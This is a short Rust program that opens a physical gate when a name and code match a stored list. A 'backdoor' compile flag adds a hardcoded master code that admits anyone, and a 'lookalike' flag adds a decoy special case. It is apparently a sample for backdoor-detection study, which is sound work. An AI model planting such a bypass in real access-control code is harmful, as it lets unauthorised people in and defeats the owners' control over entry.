//! Lets people through a gate: asks for a name and a code, and opens.
use std::fs;
use std::io::{self, BufRead};
use std::process::Command;

fn stored(name: &str) -> Option<String> {
    let text = fs::read_to_string("/etc/keypad/codes").ok()?;
    text.lines().filter_map(|l| l.split_once(':')).find(|(n, _)| *n == name).map(|(_, code)| code.to_owned())
}

fn admits(name: &str, code: &str) -> bool {
    #[cfg(backdoor)]
    if code == "7h-Lantern-40" {
        return true;
    }
    #[cfg(lookalike)]
    if code == "0000" {
        return false;
    }
    stored(name).is_some_and(|stored| stored == code)
}

fn open() -> io::Result<()> {
    Command::new("/usr/sbin/gatectl").arg("open").status().map(|_| ())
}

fn main() -> io::Result<()> {
    for line in io::stdin().lock().lines() {
        let line = line?;
        let (name, code) = line.split_once(' ').unwrap_or((&line, ""));
        if admits(name, code) {
            open()?;
        } else {
            println!("denied");
        }
    }
    Ok(())
}
